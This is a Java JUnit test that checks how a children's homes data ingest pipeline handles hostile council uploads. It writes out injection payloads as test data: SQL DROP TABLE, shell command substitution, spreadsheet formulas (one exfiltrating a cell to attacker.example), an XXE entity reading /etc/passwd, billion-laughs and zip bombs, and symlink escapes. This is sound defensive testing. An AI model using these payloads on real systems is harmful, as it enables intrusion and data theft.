package uk.gov.childrenshomes.reliability;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import uk.gov.childrenshomes.reliability.support.ChildProcess;
import uk.gov.childrenshomes.reliability.support.HostileFiles;
import uk.gov.childrenshomes.reliability.support.Inbox;
import uk.gov.childrenshomes.reliability.support.Pipeline;
import uk.gov.childrenshomes.reliability.support.Sql;
import uk.gov.childrenshomes.reliability.support.Submissions;
import uk.gov.childrenshomes.warehouse.WarehouseConnection;
import uk.gov.childrenshomes.warehouse.testkit.WarehouseExtension;

import java.io.IOException;
import java.io.Reader;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.UnaryOperator;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static uk.gov.childrenshomes.reliability.support.Inbox.quoted;
import static uk.gov.childrenshomes.reliability.support.Inbox.withValue;

/**
 * What councils, their exports and attackers really put in an inbox, all in one inbox and one ingest run (as a
 * national run meets them): each hostile file is the whole delivery of one LA, made from the generator's realistic
 * return. The run must end normally, each LA's file must be refused or loaded exactly as the rules say, with rows
 * received = loaded + rejected, and the clean LA beside them must load untouched. The run has a small heap and a
 * file size limit, so that a file read whole into memory fails the run instead of passing unnoticed.
 */
@ExtendWith(WarehouseExtension.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInboxTest {

    /** Far below the launcher's 2 GB: the huge files below are larger than the whole heap. */
    private static final String HEAP = "-Xmx256m";
    private static final long FILE_SIZE_LIMIT = 64L << 20;
    private static final long HUGE_LINE_BYTES = 300L << 20;
    /** Under the file size limit, far over the default 1 MB limit of one record (datapack.ingest.maximum-record-bytes). */
    private static final long LONG_RECORD_BYTES = 48L << 20;
    private static final int NESTING_DEPTH = 100_000;
    private static final long BOMB_INFLATED_BYTES = 1L << 30;
    /** Column of RHI_CONDUCTED_BY, a code list: every value put there is reported back verbatim as invalid. */
    private static final int CONDUCTED_BY = 14;
    /** Where a shell would write if any value were ever passed to one. */
    private static final Path SHELL_MARKER = Path.of("/tmp/datapack-reliability-shell-injection");

    private static final List<String> HOSTILE_VALUES = List.of(
            "x'); DROP TABLE ops.submission; --",
            "$(touch " + SHELL_MARKER + ")`touch " + SHELL_MARKER + "`",
            "bell\u0007escape\u001b[2Jdelete\u007f\u0085",
            "\u202Eevil\u200F\u202Dmark",
            "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\tTAB=1+1",
            "Z".repeat(100_000));

    private final Deque<String> unusedLaCodes = new ArrayDeque<>();
    private Pipeline pipeline;
    private Submissions submissions;
    private Inbox template;
    private Inbox inbox;
    private ChildProcess.Result run;
    private long templateRows;

    // The LA whose delivery is each case.
    private String clean;
    private String empty;
    private String headerOnly;
    private String truncatedMidRow;
    private String truncatedInsideQuotes;
    private String mixedEncodings;
    private String crlf;
    private String crOnly;
    private String quotedNewlinesAndCommas;
    private String excelSerials;
    private String trailingBlanks;
    private String hugeSingleLine;
    private String longRecord;
    private String binaryGarbage;
    private String nulInAValue;
    private String xlsxBomb;
    private String hostileValues;
    private String xmlClean;
    private String xmlExternalEntity;
    private String xmlBillionLaughs;
    private String xmlWrongRoot;
    private String xmlUnknownElement;
    private String xmlDeepNesting;
    private String symlinkedLaFolder;
    private String symlinkedReturnFolder;
    private String symlinkedFile;

    @BeforeAll
    void ingestHostileInbox(WarehouseConnection warehouse, @TempDir Path work) throws IOException {
        Files.deleteIfExists(SHELL_MARKER);
        pipeline = new Pipeline(warehouse, work);
        submissions = new Submissions(warehouse);
        template = Inbox.generated(pipeline, work.resolve("template"), 0.02, List.of(Inbox.TEMPLATE_LA));
        templateRows = template.dataRows(Inbox.TEMPLATE_LA, "missing");
        unusedLaCodes.addAll(Sql.strings(warehouse, "SELECT new_la_code FROM core.las_operating_in(?)"
                + " WHERE NOT is_unknown_member AND new_la_code <> ? ORDER BY new_la_code", Pipeline.YEAR, Inbox.TEMPLATE_LA));
        inbox = Inbox.empty(work.resolve("inbox"));
        writeCsvCases();
        writeOtherFormatCases();
        writeSymlinkCases(Files.createDirectories(work.resolve("outside-the-inbox")));
        run = pipeline.startIngest("ingest-hostile", inbox.root(),
                List.of(HEAP, "-Ddatapack.ingest.maximum-file-bytes=" + FILE_SIZE_LIMIT)).waitFor();
    }

    private void writeCsvCases() {
        clean = writeMissing(la(), lines -> lines);
        empty = la();
        inbox.write(empty, "missing", Inbox.missingFileName(empty), "");
        headerOnly = writeMissing(la(), lines -> lines.subList(0, 1));
        truncatedMidRow = la();
        String whole = template.missingReturnAs(truncatedMidRow).stripTrailing();
        inbox.write(truncatedMidRow, "missing", Inbox.missingFileName(truncatedMidRow), whole.substring(0, whole.length() - 25));
        truncatedInsideQuotes = la();
        inbox.write(truncatedInsideQuotes, "missing", Inbox.missingFileName(truncatedInsideQuotes),
                template.missingReturnAs(truncatedInsideQuotes) + "\"" + truncatedInsideQuotes + "-M999999,H1,01/0");

        mixedEncodings = la();
        List<String> lines = template.missingReturnLinesAs(mixedEncodings);
        byte[] utf8Part = (lines.get(0) + "\n" + withValue(lines.get(1), CONDUCTED_BY, "Ch\u00e9ri") + "\n").getBytes(StandardCharsets.UTF_8);
        byte[] windows1252Part = (withValue(lines.get(2), CONDUCTED_BY, "O\u2019Brien") + "\n").getBytes(Charset.forName("windows-1252"));
        byte[] mixed = new byte[utf8Part.length + windows1252Part.length];
        System.arraycopy(utf8Part, 0, mixed, 0, utf8Part.length);
        System.arraycopy(windows1252Part, 0, mixed, utf8Part.length, windows1252Part.length);
        inbox.write(mixedEncodings, "missing", Inbox.missingFileName(mixedEncodings), mixed);

        crlf = la();
        inbox.write(crlf, "missing", Inbox.missingFileName(crlf), String.join("\r\n", template.missingReturnLinesAs(crlf)) + "\r\n");
        crOnly = la();
        inbox.write(crOnly, "missing", Inbox.missingFileName(crOnly), String.join("\r", template.missingReturnLinesAs(crOnly)) + "\r");
        quotedNewlinesAndCommas = writeMissing(la(), rows -> {
            rows.set(1, withValue(rows.get(1), CONDUCTED_BY, "\"Duty team, North\r\nand \"\"out of hours\"\"\""));
            return rows;
        });
        excelSerials = writeMissing(la(), rows -> {
            rows.set(1, withValue(rows.get(1), 2, "45123"));
            rows.set(2, withValue(rows.get(2), 5, "45123.5"));
            rows.set(3, withValue(rows.get(3), 4, "1.0"));
            return rows;
        });
        trailingBlanks = la();
        StringBuilder blanks = new StringBuilder();
        template.missingReturnLinesAs(trailingBlanks).forEach(line -> blanks.append(line).append(",,\r\n"));
        blanks.append(",".repeat(16)).append("\r\n").append(",".repeat(16)).append("\r\n\r\n\r\n");
        inbox.write(trailingBlanks, "missing", Inbox.missingFileName(trailingBlanks), blanks.toString());
        nulInAValue = writeMissing(la(), rows -> {
            rows.set(1, withValue(rows.get(1), CONDUCTED_BY, quoted("nul\u0000byte")));
            return rows;
        });
        hostileValues = writeMissing(la(), rows -> {
            for (int i = 0; i < HOSTILE_VALUES.size(); i++) {
                int row = 1 + i % (rows.size() - 1);
                rows.set(row, withValue(rows.get(row), CONDUCTED_BY, quoted(HOSTILE_VALUES.get(i))));
            }
            return rows;
        });
    }

    private void writeOtherFormatCases() {
        hugeSingleLine = la();
        HostileFiles.writeSingleLine(inbox.write(hugeSingleLine, "missing", Inbox.missingFileName(hugeSingleLine), ""), HUGE_LINE_BYTES);
        longRecord = la();
        HostileFiles.writeSingleLine(inbox.write(longRecord, "missing", Inbox.missingFileName(longRecord), ""), LONG_RECORD_BYTES);
        binaryGarbage = la();
        byte[] garbage = new byte[64 * 1024];
        new Random(7).nextBytes(garbage);
        inbox.write(binaryGarbage, "missing", Inbox.missingFileName(binaryGarbage), garbage);
        xlsxBomb = la();
        inbox.write(xlsxBomb, "missing", xlsxBomb + "_missing_" + Pipeline.YEAR + ".xlsx", HostileFiles.xlsxBomb(BOMB_INFLATED_BYTES));

        Path ssda903 = template.folder(Inbox.TEMPLATE_LA, "ssda903");
        xmlClean = la();
        inbox.write(xmlClean, "ssda903", "export.xml", HostileFiles.expSsda903(ssda903, "EXPSSDA903", ""));
        xmlExternalEntity = la();
        inbox.write(xmlExternalEntity, "ssda903", "export.xml", "<?xml version=\"1.0\"?>\n"
                + "<!DOCTYPE EXPSSDA903 [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>\n"
                + HostileFiles.expSsda903(ssda903, "EXPSSDA903", "<UPN>&secret;</UPN>"));
        xmlBillionLaughs = la();
        StringBuilder laughs = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE EXPSSDA903 [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            laughs.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        laughs.append("]>\n").append(HostileFiles.expSsda903(ssda903, "EXPSSDA903", "<UPN>&lol9;</UPN>"));
        inbox.write(xmlBillionLaughs, "ssda903", "export.xml", laughs.toString());
        xmlWrongRoot = la();
        inbox.write(xmlWrongRoot, "ssda903", "export.xml", HostileFiles.expSsda903(ssda903, "NOTSSDA903", ""));
        xmlUnknownElement = la();
        inbox.write(xmlUnknownElement, "ssda903", "export.xml",
                HostileFiles.expSsda903(ssda903, "EXPSSDA903", "<UNKNOWN_ELEMENT>1</UNKNOWN_ELEMENT>"));
        xmlDeepNesting = la();
        inbox.write(xmlDeepNesting, "ssda903", "export.xml", "<EXPSSDA903><CHILD>" + "<HEADER>".repeat(NESTING_DEPTH)
                + "</HEADER>".repeat(NESTING_DEPTH) + "</CHILD></EXPSSDA903>");
    }

    /** Each a complete, valid return, but reached through a symbolic link that leaves the inbox. */
    private void writeSymlinkCases(Path outside) throws IOException {
        symlinkedLaFolder = la();
        Path laFolder = Files.createDirectories(outside.resolve(symlinkedLaFolder).resolve("missing"));
        Files.writeString(laFolder.resolve(Inbox.missingFileName(symlinkedLaFolder)), template.missingReturnAs(symlinkedLaFolder));
        Files.createSymbolicLink(inbox.root().resolve(symlinkedLaFolder), laFolder.getParent());

        symlinkedReturnFolder = la();
        Path returnFolder = Files.createDirectories(outside.resolve("return-" + symlinkedReturnFolder));
        Files.writeString(returnFolder.resolve(Inbox.missingFileName(symlinkedReturnFolder)), template.missingReturnAs(symlinkedReturnFolder));
        Files.createDirectories(inbox.root().resolve(symlinkedReturnFolder));
        Files.createSymbolicLink(inbox.folder(symlinkedReturnFolder, "missing"), returnFolder);

        symlinkedFile = la();
        Path file = outside.resolve("someone-elses-" + symlinkedFile + ".csv");
        Files.writeString(file, template.missingReturnAs(symlinkedFile));
        Files.createSymbolicLink(Files.createDirectories(inbox.folder(symlinkedFile, "missing"))
                .resolve(Inbox.missingFileName(symlinkedFile)), file);
    }

    private String la() {
        return unusedLaCodes.pop();
    }

    /** Writes the template missing return as {@code laCode} sent it, after {@code edit} on its lines (header first). */
    private String writeMissing(String laCode, UnaryOperator<List<String>> edit) {
        return inbox.writeMissing(laCode, edit.apply(template.missingReturnLinesAs(laCode)));
    }

    private Map<String, Object> missingOf(String laCode) {
        Map<String, Object> submission = submissions.only(laCode, "missing");
        submissions.assertAccounted(submission);
        return submission;
    }

    // ---- the run as a whole ----

    @Test
    void theRunEndsNormallyAndTheCleanLaBesideTheHostileOnesLoadsUntouched() {
        assertEquals(0, run.exitCode(), run::describe);
        Map<String, Object> submission = missingOf(clean);
        assertEquals("loaded", submission.get("state"));
        assertEquals(templateRows, Submissions.count(submission, "rows_loaded"));
        assertEquals(0, Submissions.count(submission, "rows_rejected"));
        assertEquals(0, Sql.number(pipeline.warehouse(), "SELECT count(*) FROM ops.submission WHERE state = 'failed'"),
                "no submission may fail for a system reason: hostile files are rejections, not crashes");
    }

    // ---- files ----

    @Test
    void anEmptyFileIsRejectedAsEmpty() {
        Map<String, Object> submission = missingOf(empty);
        assertRejectedUnder(submission, "DP002");
    }

    @Test
    void aHeaderOnlyFileIsReportedAsHavingNoDataRows() {
        Map<String, Object> submission = missingOf(headerOnly);
        assertEquals(0, Submissions.count(submission, "rows_received"));
        assertTrue(submissions.ruleCodes(Submissions.id(submission)).contains("DP006"), submission::toString);
    }

    @Test
    void aFileTruncatedMidRowLoadsTheCompleteRowsAndRejectsTheCutOne() {
        Map<String, Object> submission = missingOf(truncatedMidRow);
        assertEquals(templateRows, Submissions.count(submission, "rows_received"));
        assertEquals(templateRows - 1, Submissions.count(submission, "rows_loaded"));
        List<Map<String, Object>> cut = submissions.findings(Submissions.id(submission), "DP009");
        assertEquals(1, cut.size(), cut::toString);
        assertEquals(templateRows, ((Number) cut.get(0).get("row_number")).longValue());
    }

    @Test
    void aFileTruncatedInsideAQuotedFieldIsRejectedAsUnreadable() {
        Map<String, Object> submission = missingOf(truncatedInsideQuotes);
        assertRejectedUnder(submission, "DP014");
    }

    @Test
    void aFileMixingUtf8AndWindows1252IsRejectedAsNotUtf8() {
        Map<String, Object> submission = missingOf(mixedEncodings);
        assertRejectedUnder(submission, "DP001");
    }

    @Test
    void crlfAndCrOnlyLineEndingsLoadEveryRow() {
        for (String laCode : List.of(crlf, crOnly)) {
            Map<String, Object> submission = missingOf(laCode);
            assertEquals("loaded", submission.get("state"), laCode);
            assertEquals(templateRows, Submissions.count(submission, "rows_loaded"), laCode);
            assertEquals(0, Submissions.count(submission, "rows_rejected"), laCode);
        }
    }

    @Test
    void aQuotedFieldWithANewlineAndCommasStaysOneValueOfOneRow() {
        Map<String, Object> submission = missingOf(quotedNewlinesAndCommas);
        assertEquals(templateRows, Submissions.count(submission, "rows_received"), "the embedded newline made no extra row");
        List<Map<String, Object>> invalid = submissions.findings(Submissions.id(submission), "MIS-16");
        assertEquals(1, invalid.size(), invalid::toString);
        assertEquals(1L, ((Number) invalid.get(0).get("row_number")).longValue());
        assertEquals("Duty team, North\r\nand \"out of hours\"", invalid.get(0).get("field_value"));
        assertEquals(templateRows - 1, Submissions.count(submission, "rows_loaded"));
    }

    @Test
    void excelSerialDatesAndDecimalCodesAreReportedNotLoadedAsValues() {
        Map<String, Object> submission = missingOf(excelSerials);
        long id = Submissions.id(submission);
        assertEquals("45123", submissions.findings(id, "MIS-03").get(0).get("field_value"));
        assertEquals("45123.5", submissions.findings(id, "MIS-06").get(0).get("field_value"));
        assertEquals("1.0", submissions.findings(id, "MIS-05").get(0).get("field_value"));
        assertEquals(templateRows - 3, Submissions.count(submission, "rows_loaded"));
    }

    @Test
    void trailingBlankRowsAndColumnsLoadNoExtraRows() {
        Map<String, Object> submission = missingOf(trailingBlanks);
        assertEquals("loaded", submission.get("state"));
        assertEquals(templateRows, Submissions.count(submission, "rows_loaded"));
    }

    @Test
    void aHugeSingleLineFileIsRejectedBySizeBeforeItIsRead() {
        Map<String, Object> submission = missingOf(hugeSingleLine);
        assertRejectedUnder(submission, "DP007");
    }

    /**
     * A file under the size limit whose one line is 48 times the record limit: refused by the pre-parse scan (DP076),
     * never handed to the parser, which would hold the whole record in memory.
     */
    @Test
    void aRecordLongerThanTheRecordLimitIsRejectedBeforeItIsParsed() {
        Map<String, Object> submission = missingOf(longRecord);
        assertEquals("rejected", submission.get("state"), run::describe);
        List<Map<String, Object>> tooLong = submissions.findings(Submissions.id(submission), "DP076");
        assertEquals(1, tooLong.size(), () -> submissions.findingsText(Submissions.id(submission)));
        assertTrue(String.valueOf(tooLong.get(0).get("message")).contains("line 1"), tooLong::toString);
    }

    /** Random bytes named .csv: once a NUL reached ops.validation_issue, PostgreSQL refused it and the load failed. */
    @Test
    void binaryGarbageIsRejectedAsNotATextFileNotAFailedLoad() {
        Map<String, Object> submission = missingOf(binaryGarbage);
        assertEquals("rejected", submission.get("state"), run::describe);
        List<String> rules = submissions.ruleCodes(Submissions.id(submission));
        assertTrue(rules.contains("DP019") && !rules.contains("DP001"), rules::toString);
    }

    @Test
    void anXlsxDecompressionBombIsRejectedAsUnreadable() {
        Map<String, Object> submission = missingOf(xlsxBomb);
        assertEquals("rejected", submission.get("state"));
        List<Map<String, Object>> unreadable = submissions.findings(Submissions.id(submission), "DP014");
        assertEquals(1, unreadable.size(), unreadable::toString);
        assertTrue(String.valueOf(unreadable.get(0).get("message")).toLowerCase().contains("zip bomb"), unreadable::toString);
    }

    // ---- XML ----

    @Test
    void aValidSsda903XmlExportLoads() {
        Map<String, Object> submission = submissions.only(xmlClean, "ssda903");
        submissions.assertAccounted(submission);
        assertEquals("loaded", submission.get("state"), submission::toString);
        assertTrue(Submissions.count(submission, "rows_loaded") > 0);
    }

    @Test
    void xmlWithAnExternalEntityIsRefusedAndTheEntityNeverRead() {
        Map<String, Object> submission = submissions.only(xmlExternalEntity, "ssda903");
        submissions.assertAccounted(submission);
        assertRejectedUnder(submission, "DP008");
        assertEquals(0, Sql.number(pipeline.warehouse(),
                "SELECT count(*) FROM ops.validation_issue WHERE field_value LIKE '%root:%' OR message LIKE '%root:%'"));
    }

    @Test
    void xmlWithBillionLaughsIsRefusedWithoutExpandingIt() {
        Map<String, Object> submission = submissions.only(xmlBillionLaughs, "ssda903");
        submissions.assertAccounted(submission);
        assertRejectedUnder(submission, "DP008");
    }

    @Test
    void xmlWithAnotherRootThanExpssda903IsRejected() {
        Map<String, Object> submission = submissions.only(xmlWrongRoot, "ssda903");
        submissions.assertAccounted(submission);
        assertEquals("rejected", submission.get("state"), submission::toString);
        assertTrue(submissions.ruleCodes(Submissions.id(submission)).contains("DP077"), submission::toString);
    }

    @Test
    void xmlWithAnElementTheSchemaDoesNotHaveIsReportedByNameAndLine() {
        Map<String, Object> submission = submissions.only(xmlUnknownElement, "ssda903");
        submissions.assertAccounted(submission);
        assertEquals("loaded", submission.get("state"), submission::toString);
        List<Map<String, Object>> unknown = submissions.findings(Submissions.id(submission), "DP078");
        assertEquals(1, unknown.size(), unknown::toString);
        assertEquals("UNKNOWN_ELEMENT", unknown.get(0).get("field_name"), unknown::toString);
        assertTrue(String.valueOf(unknown.get(0).get("message")).contains("<UNKNOWN_ELEMENT> first at line 1"), unknown::toString);
    }

    /** Once, reading recursed per level: StackOverflowError, the submission left 'loading' and the run exit 1. */
    @Test
    void deeplyNestedXmlIsRejectedWithinABoundedDepth() {
        Map<String, Object> submission = submissions.only(xmlDeepNesting, "ssda903");
        submissions.assertAccounted(submission);
        assertEquals("rejected", submission.get("state"), run::describe);
        assertTrue(submissions.ruleCodes(Submissions.id(submission)).contains("DP079"), submission::toString);
    }

    // ---- values ----

    @Test
    void hostileValuesAreStoredAsDataVerbatimAndNeverExecuted() {
        Map<String, Object> submission = missingOf(hostileValues);
        List<Object> stored = submissions.findings(Submissions.id(submission), "MIS-16").stream()
                .map(finding -> finding.get("field_value")).toList();
        for (String value : HOSTILE_VALUES) {
            // Findings keep a value's start (long values are shortened for the report) without the surrounding
            // whitespace the load strips (rule DP013): what is kept is kept exactly.
            String start = value.strip().substring(0, Math.min(value.strip().length(), 30));
            assertTrue(stored.stream().anyMatch(kept -> String.valueOf(kept).startsWith(start)),
                    () -> "not stored as sent: " + start + " in " + stored);
        }
        assertTrue(stored.contains(HOSTILE_VALUES.get(0)), "the SQL is stored as text: " + stored);
        assertEquals(1, Sql.number(pipeline.warehouse(), "SELECT count(*) FROM information_schema.tables"
                + " WHERE table_schema = 'ops' AND table_name = 'submission'"));
        assertFalse(Files.exists(SHELL_MARKER), "a value reached a shell");
        assertEquals(templateRows - Math.min(HOSTILE_VALUES.size(), templateRows), Submissions.count(submission, "rows_loaded"));
    }

    /** Once, a NUL (U+0000) in one value failed the LA's whole load: PostgreSQL cannot store it in text. */
    @Test
    void aNulCharacterInAValueRejectsTheRowNotTheRun() {
        Map<String, Object> submission = missingOf(nulInAValue);
        assertEquals("loaded", submission.get("state"), run::describe);
        assertEquals(1, Submissions.count(submission, "rows_rejected"));
        List<Map<String, Object>> control = submissions.findings(Submissions.id(submission), "DP018");
        assertEquals(1, control.size(), control::toString);
        assertEquals("nul\uFFFDbyte", control.get(0).get("field_value"), control::toString);
    }

    @Test
    void noCellOfTheValidationReportCanRunAsASpreadsheetFormula() throws IOException {
        Path report = inbox.validationReport(hostileValues, "missing");
        List<CSVRecord> records;
        try (Reader reader = Files.newBufferedReader(report, StandardCharsets.UTF_8)) {
            records = CSVFormat.RFC4180.parse(reader).getRecords();
        }
        long hostileCells = 0;
        for (CSVRecord record : records) {
            for (String cell : record) {
                assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0,
                        () -> "a report cell starts with a formula prefix: " + cell.substring(0, Math.min(80, cell.length())));
                if (cell.startsWith("'=") || cell.startsWith("'+") || cell.startsWith("'-") || cell.startsWith("'@")) {
                    hostileCells++;
                }
            }
        }
        assertTrue(hostileCells >= 4, "the formula values are in the report, neutralised: " + hostileCells);
    }

    // ---- paths ----

    @Test
    void returnsReachedThroughSymbolicLinksOutOfTheInboxAreRefused() {
        for (String laCode : List.of(symlinkedLaFolder, symlinkedReturnFolder, symlinkedFile)) {
            assertEquals(List.of(), submissions.all(laCode, "missing"), "loaded through a symbolic link: " + laCode);
        }
        assertTrue(run.stdout().contains("symbolic links are not followed"), run::describe);
    }

    /** The submission was rejected, and its findings include the rule that rejected it. */
    private void assertRejectedUnder(Map<String, Object> submission, String rule) {
        assertEquals("rejected", submission.get("state"));
        assertTrue(submissions.ruleCodes(Submissions.id(submission)).contains(rule), submission::toString);
    }
}
